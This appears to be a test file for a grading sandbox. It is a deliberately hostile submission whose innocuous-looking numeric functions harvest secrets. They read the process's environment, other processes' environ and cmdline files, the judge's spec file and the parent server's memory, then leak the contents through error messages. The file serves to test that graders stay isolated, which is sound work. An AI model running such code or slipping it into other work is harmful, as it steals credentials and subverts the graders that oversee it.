"""Attack: look for secrets and put them where a report might show them.

- its own environment (os.environ, /proc/self/environ);
- every process it can see: /proc/<pid>/environ and cmdline (the fork server, the judge, the CLI
  that started them, PID 1), and the judge's spec file named on the judge's command line;
- the fork server's memory through /proc/<ppid>/mem.
Whatever it reads goes into its error messages and onto its output.
Honest baseline: 0.
Expected: none of the grader's secrets is visible to it (GRADER_TEST_SECRET, planted in the
grader's environment by the test, reaches no report); reads of other processes are refused.
"""
import os
import re


def add_feature_bias(x, bias):
    with open("/proc/self/environ", "rb") as fh:
        raw = fh.read().decode(errors="replace")
    print(raw)
    raise RuntimeError(f"my environment: {dict(os.environ)} /proc/self/environ: {raw}")


def _pids():
    try:
        return sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    except OSError:
        return [os.getppid(), 1]


def add_sample_bias(x, bias):
    seen = []
    for pid in _pids():
        if pid == os.getpid():
            continue
        for what in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as fh:
                    data = fh.read().replace(b"\0", b" ").decode(errors="replace")
            except OSError as exc:
                seen.append(f"{pid}/{what}: {exc.strerror}")
                continue
            seen.append(f"{pid}/{what}: {data[:400]}")
            for spec in re.findall(r"\S+spec\.json", data):
                try:
                    with open(spec) as fh:
                        seen.append(f"{spec}: {fh.read()[:400]}")
                except OSError as exc:
                    seen.append(f"{spec}: {exc.strerror}")
    raise RuntimeError("other processes: " + " | ".join(seen))


def pairwise_sq_dists(a, b):
    ppid = os.getppid()
    try:
        with open(f"/proc/{ppid}/maps") as fh:
            regions = [line.split()[0] for line in fh if "rw-p" in line]
        with open(f"/proc/{ppid}/mem", "rb") as mem:
            start, end = (int(v, 16) for v in regions[0].split("-"))
            mem.seek(start)
            data = mem.read(min(end - start, 1 << 20))
    except OSError as exc:
        raise PermissionError(f"the fork server's memory (/proc/{ppid}/mem): {exc.strerror}") from None
    raise RuntimeError(f"read {len(data)} bytes of the fork server's memory: {data[:2000]!r}")
